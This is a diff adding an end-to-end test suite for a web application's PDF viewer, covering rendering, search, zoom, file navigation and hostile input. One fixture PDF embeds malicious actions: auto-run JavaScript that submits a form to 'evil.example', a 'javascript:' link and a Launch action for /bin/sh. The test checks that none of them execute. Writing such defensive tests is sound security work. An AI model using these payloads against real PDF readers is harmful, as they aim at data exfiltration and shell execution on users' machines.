@@ -1,0 +1,119 @@
+import type { Page } from 'playwright-core'
+import { expect, test } from 'vitest'
+import { rowOf, signIn } from '../kit/browser.ts'
+import { makePdf } from '../kit/pdf.ts'
+import { ann } from '../kit/run-server.ts'
+import { atRoot, eventually, violationsIn } from './journeys.ts'
+
+const pages = Array.from({ length: 12 }, (_, index) => `Page ${index + 1} of the report`)
+const files = {
+  '1 scan #?&+.pdf': makePdf({ pages: [...pages.slice(0, 8), 'The harvest was good', ...pages.slice(9)] }),
+  '2 hostile.pdf': makePdf({
+    pages: ['Hostile'],
+    catalogue:
+      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >> ' +
+      '/AA << /WC << /S /URI /URI (https://evil.example/) >> >>',
+    annotations: [
+      '<< /Type /Annot /Subtype /Link /Rect [20 90 200 120] /A << /S /URI /URI (javascript:top.hacked=1) >> >>',
+      '<< /Type /Annot /Subtype /Link /Rect [20 10 200 40] /A << /S /URI /URI (https://example.com/x) >> >>',
+      '<< /Type /Annot /Subtype /Link /Rect [20 50 200 80] /A << /S /Launch /F (/bin/sh) >> >>',
+    ],
+  }),
+  '3 damaged.pdf': '%PDF-1.4\nnothing of the kind',
+}
+
+const viewer = (page: Page) => page.locator('[data-part="pdf"]')
+const pageOf = (page: Page, number: number) => viewer(page).locator(`[data-page="${number}"]`)
+/** Returns the number of different colours in the drawing of a page. */
+const coloursOf = (page: Page, number: number) =>
+  pageOf(page, number)
+    .locator('canvas')
+    .evaluate((canvas) => {
+      const drawing = canvas as HTMLCanvasElement
+      const { data } = drawing.getContext('2d')?.getImageData(0, 0, drawing.width, drawing.height) ?? {
+        data: [],
+      }
+      return new Set(Array.from(data).filter((_, index) => index % 4 === 0)).size
+    })
+
+atRoot({ files }, ({ server, window }) => {
+  const open = async (name: string, options: Parameters<typeof window>[0] = {}) => {
+    await server().cli('users', 'update', ann.name, '--viewMode', 'list')
+    const page = await window(options)
+    await signIn(page, server(), ann)
+    await rowOf(page, name).dblclick()
+    return page
+  }
+
+  test.each([
+    { width: 1280, height: 800 },
+    { width: 390, height: 844 },
+  ])('a PDF shows its pages with text that can be selected, at $width pixels', async (viewport) => {
+    const page = await open('1 scan #?&+.pdf', { viewport })
+    const line = pageOf(page, 1).getByText('Page 1 of the report')
+    await line.waitFor()
+    expect(await coloursOf(page, 1)).toBeGreaterThan(1)
+    await line.dblclick()
+    expect((await page.evaluate(() => getSelection()?.toString() ?? '')).trim()).not.toBe('')
+    const frame = await pageOf(page, 1).boundingBox()
+    const text = await line.boundingBox()
+    expect((frame?.x ?? 0) + (frame?.width ?? 0)).toBeLessThanOrEqual(viewport.width)
+    // The invisible text lies over the drawn one: 20 of 300 points from the left, and 100 of 200 above the lower edge.
+    expect(((text?.x ?? 0) - (frame?.x ?? 0)) / (frame?.width ?? 1)).toBeCloseTo(20 / 300, 1)
+    expect(((text?.y ?? 0) - (frame?.y ?? 0)) / (frame?.height ?? 1)).toBeCloseTo(0.43, 1)
+    expect(await violationsIn(page, 'light')).toEqual([])
+  })
+
+  test('the search finds a word on a far page, the page field goes to one, and far pages are released', async () => {
+    const page = await open('1 scan #?&+.pdf')
+    await pageOf(page, 1).locator('canvas').waitFor()
+    await page.keyboard.press('Control+f')
+    await page.keyboard.type('HARVEST')
+    await viewer(page).getByText('1 of 1', { exact: true }).waitFor()
+    await pageOf(page, 9).locator('canvas').waitFor()
+    await eventually(() => page.evaluate(() => CSS.highlights.get('pdf-current-match')?.size), 1)
+    const mark = await pageOf(page, 9)
+      .getByText('harvest')
+      .evaluate((piece) => getComputedStyle(piece, '::highlight(pdf-current-match)').backgroundColor)
+    expect(mark).toBe('rgba(255, 138, 0, 0.6)')
+    await eventually(() => pageOf(page, 1).locator('canvas').count(), 0)
+    await page.keyboard.press('Control+a')
+    await page.keyboard.type('report')
+    await viewer(page).getByText('1 of 11', { exact: true }).waitFor()
+    await page.keyboard.press('Shift+Enter')
+    await viewer(page).getByText('11 of 11', { exact: true }).waitFor()
+    await page.keyboard.press('Escape')
+    const field = viewer(page).getByRole('textbox', { name: 'Page number' })
+    await field.fill('3')
+    await field.press('Enter')
+    await pageOf(page, 3).locator('canvas').waitFor()
+    await eventually(() => field.inputValue(), '3')
+  })
+
+  test('keys zoom, the arrows lead to the next file, and a damaged file can only be downloaded', async () => {
+    const page = await open('1 scan #?&+.pdf')
+    await pageOf(page, 1).locator('canvas').waitFor()
+    const width = async () => (await pageOf(page, 1).boundingBox())?.width ?? 0
+    const before = await width()
+    await page.keyboard.press('+')
+    await eventually(async () => (await width()) > before, true)
+    await page.keyboard.press('0')
+    await eventually(width, before)
+    await page.keyboard.press('ArrowRight')
+    await pageOf(page, 1).getByText('Hostile').waitFor()
+    await page.keyboard.press('ArrowRight')
+    await page.getByText('Preview is not available for this file.').waitFor()
+  })
+
+  test('nothing in a hostile PDF acts, and only web links can be followed', async () => {
+    const page = await open('2 hostile.pdf')
+    await pageOf(page, 1).getByText('Hostile').waitFor()
+    const links = pageOf(page, 1).locator('a')
+    await eventually(
+      () => links.evaluateAll((all) => all.map((link) => link.getAttribute('href'))),
+      ['https://example.com/x'],
+    )
+    expect(await links.getAttribute('rel')).toBe('noopener noreferrer')
+    expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
+  })
+})
